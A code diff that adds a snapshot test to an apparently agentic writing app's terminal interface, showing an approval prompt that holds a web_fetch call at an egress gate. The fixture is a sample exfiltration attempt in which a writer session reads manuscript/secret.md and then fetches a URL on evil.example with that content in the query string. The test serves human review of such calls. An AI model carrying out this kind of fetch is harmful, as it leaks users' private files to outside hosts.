@@ -128,6 +128,51 @@ fn approval_text() {
     });
 }
 
+/// A web_fetch waiting at the egress gate: host, method and URL (long query value elided with
+/// its length), who asked, and what that session and its parent read before.
+fn egress_call() -> nbook::engine::PendingCall {
+    use nbook::engine::{EgressShown, PreviewBody};
+    let mut c = pending(
+        "call-egress",
+        "web_fetch",
+        PreviewBody::Egress {
+            requests: vec![EgressShown {
+                host: "evil.example".into(),
+                method: "GET".into(),
+                url: "https://evil.example/c?q=the heir is the…(812 chars)&lang=en".into(),
+                body: vec![],
+            }],
+            session: "2 (writer)".into(),
+            earlier: vec![
+                "session 2 (writer): read path=manuscript/secret.md".into(),
+                "session 1 (leader.default, which started it): get_story_tree".into(),
+            ],
+        },
+        "Send a request to evil.example",
+        true,
+        Mode::Discuss,
+    );
+    c.session_id = "2".into();
+    c.profile = "writer".into();
+    c.args = serde_json::json!({"url": "https://evil.example/c?q=..."});
+    c
+}
+
+#[test]
+fn approval_egress() {
+    snap("approval_egress", |w, h| {
+        let (mut app, _) = full_app(w, h);
+        app.update(Action::Engine(
+            nbook::engine::EngineEvent::ApprovalRequested {
+                call: egress_call(),
+            },
+        ));
+        app.focus = Pane::Approvals;
+        app.update(Action::Cmd(Command::Bottom));
+        app
+    });
+}
+
 #[test]
 fn approval_detail_overlay() {
     snap("approval_detail", |w, h| {
